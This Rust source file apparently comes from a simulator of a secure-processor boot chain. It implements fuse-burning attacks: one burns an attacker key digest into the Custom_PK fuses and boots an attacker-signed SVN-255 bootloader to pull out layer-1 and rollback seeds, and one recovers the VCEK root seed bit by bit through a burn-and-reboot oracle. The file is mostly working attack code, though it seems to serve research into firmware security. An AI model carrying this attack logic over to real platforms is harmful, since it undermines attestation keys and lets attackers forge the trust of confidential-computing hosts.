// Licensed under the Apache-2.0 license

//! Fuse-burner attacks driven from the MilanLaunchy payload.

use serde::Serialize;

use super::{exfil_payload, parse_exfil, require_code_exec, AttackError, ExtractedMaterial, SeedMaterial,
    MILANLAUNCHY_PAYLOAD_ID};
use crate::boot::{encode_branch, BootOutcome, BootStage, PayloadContext, PayloadError, PayloadRegistry,
    SecretRead, STANDARD_BL_LOAD_ADDR};
use crate::crypto::{sha384, SignatureKeyPair, SymmetricKey128, AES_BLOCK};
use crate::firmware::{sign_module, AuthScheme, EntryType, FirmwareModule, FlashImage, PayloadDescriptor};
use crate::fuse::layout::VCEK_ROOT_SEED;
use crate::fuse::{program_fuse_bit, provision_with_redundancy, Region};
use crate::platform::Platform;
use crate::vcek::Seed;

/// Id in the descriptor embedded in the attacker-signed bootloader.
pub const CUSTOM_BL_PAYLOAD_ID: u32 = 0x4D4C_0002;
const CUSTOM_BL_SVN: u8 = 255;
const DESCRIPTOR_OFFSET: u32 = 16;

fn custom_bootloader(attacker: &SignatureKeyPair, scheme: AuthScheme) -> Result<FirmwareModule, AttackError> {
    let entry = STANDARD_BL_LOAD_ADDR;
    let word = encode_branch(entry, entry + DESCRIPTOR_OFFSET).expect("short forward branch");
    let mut body = word.to_le_bytes().to_vec();
    body.resize(DESCRIPTOR_OFFSET as usize, 0);
    body.extend_from_slice(&PayloadDescriptor::new(CUSTOM_BL_PAYLOAD_ID).to_bytes());
    body.resize(body.len().next_multiple_of(AES_BLOCK), 0);
    Ok(sign_module(
        &FirmwareModule::new(CUSTOM_BL_SVN, entry, body),
        attacker,
        scheme,
        None,
    )?)
}

/// Flash the attacker installs once their key is fused in: a custom
/// SVN-255 bootloader as primary and recovery, plus the vendor's later
/// layers re-signed with the attacker key.
pub fn attacker_flash(
    current: &FlashImage,
    attacker: &SignatureKeyPair,
    bootrom_key: &SymmetricKey128,
    scheme: AuthScheme,
) -> Result<FlashImage, AttackError> {
    let bl = custom_bootloader(attacker, scheme)?.to_bytes();
    let ikek_bytes = current.entry_data(EntryType::WrappedIkek).map(<[u8]>::to_vec);
    let ikek = match current.ikek_entry() {
        Some(e) => Some(e?.unwrap(bootrom_key, scheme)?),
        None => None,
    };
    let mut parts = vec![
        (EntryType::PrimaryBootloader, bl.clone()),
        (EntryType::RecoveryBootloader, bl),
    ];
    for t in [EntryType::SevFirmware, EntryType::Microcode] {
        if let Some(m) = current.module(t) {
            parts.push((t, sign_module(&m?, attacker, scheme, ikek.as_ref())?.to_bytes()));
        }
    }
    if let Some(b) = ikek_bytes {
        parts.push((EntryType::WrappedIkek, b));
    }
    Ok(FlashImage::from_parts(parts)?)
}

#[derive(Debug, Clone)]
pub struct AttackIRun {
    pub attacker_pk_digest: [u8; 48],
    /// Boot that burned the attacker key.
    pub burn_outcome: BootOutcome,
    /// Boot of the attacker-signed bootloader.
    pub exfil_outcome: BootOutcome,
    pub material: ExtractedMaterial,
}

/// Burns `sha384(attacker pub)` into Custom_PK with valid SEC-DED and
/// Fletcher metadata, then boots an attacker-signed bootloader at SVN 255
/// and captures its layer-1 and rollback seeds.
///
/// `platform.flash` must already hold the MilanLaunchy image.
pub fn badfuse_custom_pk(
    platform: &mut Platform,
    attacker: &SignatureKeyPair,
    bootrom_key: &SymmetricKey128,
) -> Result<AttackIRun, AttackError> {
    let digest = sha384(&attacker.public_bytes());
    let burn = PayloadRegistry::new().with(MILANLAUNCHY_PAYLOAD_ID, move |ctx| {
        provision_with_redundancy(ctx, Region::CustomPk, &digest, true, true)?;
        ctx.request_reboot();
        Ok(())
    });
    let burn_outcome = platform.boot(&burn);
    require_code_exec(&burn_outcome)?;

    platform.flash = attacker_flash(&platform.flash, attacker, bootrom_key, platform.config.arch_scheme)?;
    let exfil = PayloadRegistry::new().with(CUSTOM_BL_PAYLOAD_ID, exfil_payload);
    let exfil_outcome = platform.boot(&exfil);
    require_code_exec(&exfil_outcome)?;
    let (layer1_seed, rollback_seed) = parse_exfil(&exfil_outcome.dram_out).ok_or(AttackError::MissingExfil)?;
    let chip_id = exfil_outcome.handoff.as_ref().ok_or(AttackError::MissingExfil)?.chip_id;
    let cur = exfil_outcome.svns.bl_svn.unwrap_or(CUSTOM_BL_SVN);
    Ok(AttackIRun {
        attacker_pk_digest: digest,
        burn_outcome,
        exfil_outcome,
        material: ExtractedMaterial {
            chip_id,
            material: SeedMaterial::Layer {
                cur,
                layer1_seed,
                rollback_seed,
            },
        },
    })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct OracleDecision {
    pub bit: u16,
    /// Observed seed differed from the baseline after the burn.
    pub changed: bool,
    /// Recovered value of the bit.
    pub value: u8,
}

/// Progress of the bit-by-bit recovery.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OracleState {
    pub v_base: Seed,
    pub recovered: Seed,
    pub decisions: Vec<OracleDecision>,
    pub baseline_updates: u32,
}

impl OracleState {
    pub fn new(v_base: Seed) -> Self {
        OracleState {
            v_base,
            recovered: [0; 32],
            decisions: Vec::with_capacity(256),
            baseline_updates: 0,
        }
    }

    /// Records the seed observed after burning `bit`.
    pub fn observe(&mut self, bit: u16, v_curr: Seed) {
        let changed = v_curr != self.v_base;
        let value = if changed {
            self.v_base = v_curr;
            self.baseline_updates += 1;
            0
        } else {
            1
        };
        self.recovered[bit as usize / 8] |= value << (bit % 8);
        self.decisions.push(OracleDecision { bit, changed, value });
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct OracleRun {
    #[serde(with = "hex")]
    pub recovered_seed: Seed,
    #[serde(with = "hex")]
    pub chip_id: [u8; 32],
    pub reboots: u32,
    pub baseline_updates: u32,
    pub decisions: Vec<OracleDecision>,
    /// Stage reached by each boot, baseline first.
    pub stages: Vec<BootStage>,
    /// Secret-window reads made by the payload across all boots.
    pub secret_reads: Vec<SecretRead>,
}

impl OracleRun {
    pub fn material(&self) -> ExtractedMaterial {
        ExtractedMaterial {
            chip_id: self.chip_id,
            material: SeedMaterial::Root {
                root_seed: self.recovered_seed,
            },
        }
    }
}

fn probe_hooks(burn_bit: Option<u32>) -> PayloadRegistry {
    PayloadRegistry::new().with(MILANLAUNCHY_PAYLOAD_ID, move |ctx: &mut PayloadContext<'_>| {
        let seed = ctx.get_layer1_seed();
        ctx.write_dram_out(&seed);
        if let Some(bit) = burn_bit {
            program_fuse_bit(ctx, bit).map_err(PayloadError::from)?;
        }
        ctx.request_reboot();
        Ok(())
    })
}

fn fetch(outcome: &BootOutcome) -> Result<Seed, AttackError> {
    require_code_exec(outcome)?;
    outcome
        .dram_out
        .get(..32)
        .and_then(|b| b.try_into().ok())
        .ok_or(AttackError::MissingExfil)
}

/// Recovers the fused VCEK root through the layer-1 seed: burn one bit,
/// cold reboot, compare. Each boot reports the seed derived from the
/// fuses as they were before its own burn.
///
/// `platform.flash` must already hold the MilanLaunchy image.
pub fn badfuse_oracle(platform: &mut Platform) -> Result<OracleRun, AttackError> {
    let first = VCEK_ROOT_SEED.first_bit();
    let baseline = platform.boot(&probe_hooks(Some(first)));
    let mut stages = vec![baseline.stage_reached];
    let mut secret_reads = baseline.secret_reads.clone();
    let v_base = fetch(&baseline)?;
    let chip_id = baseline.handoff.as_ref().map(|h| h.chip_id).unwrap_or_default();
    let mut state = OracleState::new(v_base);
    let mut reboots = 0;
    for i in 0..256u32 {
        let next = (i + 1 < 256).then(|| first + i + 1);
        let out = platform.boot(&probe_hooks(next));
        reboots += 1;
        stages.push(out.stage_reached);
        secret_reads.extend_from_slice(&out.secret_reads);
        state.observe(i as u16, fetch(&out)?);
    }
    Ok(OracleRun {
        recovered_seed: state.recovered,
        chip_id,
        reboots,
        baseline_updates: state.baseline_updates,
        decisions: state.decisions,
        stages,
        secret_reads,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn oracle_state_bit_order() {
        // Pretend bits 0 and 9 were zero: only those burns change the seed.
        let mut st = OracleState::new([0; 32]);
        let mut v = 0u8;
        for bit in 0..256u16 {
            if bit == 0 || bit == 9 {
                v += 1;
            }
            st.observe(bit, [v; 32]);
        }
        let mut expect = [0xFF; 32];
        expect[0] = 0xFE;
        expect[1] = 0xFD;
        assert_eq!(st.recovered, expect);
        assert_eq!(st.baseline_updates, 2);
    }
}
